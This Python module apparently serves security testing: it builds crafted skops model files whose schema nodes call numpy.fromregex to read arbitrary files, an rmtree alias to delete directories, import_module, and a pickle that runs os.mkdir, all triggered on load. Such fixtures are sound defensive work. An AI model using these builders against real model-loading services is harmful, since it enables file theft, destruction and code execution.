"""Crafted skops files, built the way an attacker would: a real model's schema with one node swapped.

skops' reduce-style nodes call ``getattr(import_module(module), name)(*args)`` with the module, name and
arguments written in the file. Each builder here puts such a call where a fitted LogisticRegression
keeps its column names, so loading the file makes the call (the model never needs to be used).
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile

import numpy as np
import pandas as pd
import skops.io as sio
from sklearn.linear_model import LogisticRegression


def json_node(value) -> dict:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True}


def tuple_node(items: list[dict]) -> dict:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": items}


def list_node(items: list[dict]) -> dict:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": items}


def call_node(module: str, name: str, *args, loader: str = "ConstructorFromReduceNode") -> dict:
    """A node whose loading calls ``module.name(*args)`` (args are JSON values)."""
    arguments = tuple_node([json_node(a) for a in args])
    if loader == "LossNode":
        return {"__class__": name, "__module__": module, "__loader__": "LossNode",
                "__reduce__": {"args": arguments},
                "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                            "content": {}, "key_types": list_node([])}}
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": arguments}


def base_model() -> LogisticRegression:
    frame = pd.DataFrame({"x": np.linspace(-1, 1, 40), "z": np.linspace(1, -1, 40) ** 2})
    return LogisticRegression().fit(frame, np.arange(40) % 2)


def with_node(node: dict, *, attribute: str = "feature_names_in_") -> bytes:
    """The base model's skops file with ``attribute`` replaced by ``node``."""
    source = zipfile.ZipFile(io.BytesIO(sio.dumps(base_model())))
    schema = json.loads(source.read("schema.json"))
    schema["content"]["content"][attribute] = node
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.namelist():
            if item != "schema.json":
                target.writestr(item, source.read(item))
        target.writestr("schema.json", json.dumps(schema))
    return out.getvalue()


def fromregex(path: str, *, loader: str = "ConstructorFromReduceNode") -> bytes:
    """Reads any file into the model's column names (returned to the uploader as its "features")."""
    return with_node(call_node("numpy", "fromregex", path, "(.+)", "S200,", loader=loader))


def pickle_payload_making_dir(marker: str) -> str:
    """A protocol-0 pickle (plain text) that calls ``os.mkdir(marker)`` when unpickled."""
    payload = pickle.dumps(_MakeDir(marker), protocol=0).decode("ascii")
    assert "mkdir" in payload
    return payload


class _MakeDir:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        import os

        return (os.mkdir, (self.path,))


def savetxt_then_load(pickle_path: str, marker: str) -> bytes:
    """Writes a pickle with ``numpy.matlib.savetxt``, then unpickles it with ``numpy.matlib.load``."""
    write = call_node("numpy.matlib", "savetxt", pickle_path, [pickle_payload_making_dir(marker)], "%s")
    read = call_node("numpy.matlib", "load", pickle_path, None, True)
    return with_node(list_node([write, read]))


def rmtree(path: str) -> bytes:
    """``scipy._lib._tmpdirs.rmtree`` is ``shutil.rmtree``: deletes a directory tree."""
    return with_node(call_node("scipy._lib._tmpdirs", "rmtree", path))


def import_module(name: str) -> bytes:
    """``sklearn.utils.discovery.import_module`` is ``importlib.import_module``: runs a module's code."""
    return with_node(call_node("sklearn.utils.discovery", "import_module", name))


def function_transformer(module: str, name: str) -> bytes:
    """A pipeline whose FunctionTransformer ``func`` is ``module.name`` (e.g. ``numpy.load``)."""
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    frame = pd.DataFrame({"x": np.linspace(-1, 1, 40)})
    fitted = make_pipeline(FunctionTransformer(np.tanh), LogisticRegression()).fit(frame, np.arange(40) % 2)
    source = zipfile.ZipFile(io.BytesIO(sio.dumps(fitted)))
    schema = json.loads(source.read("schema.json"))
    func = schema["content"]["content"]["steps"]["content"][0]["content"][1]["content"]["content"]["func"]
    assert (func["__module__"], func["__class__"]) == ("numpy", "tanh")
    func["__module__"], func["__class__"] = module, name
    text = json.dumps(schema)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.namelist():
            target.writestr(item, text if item == "schema.json" else source.read(item))
    return out.getvalue()
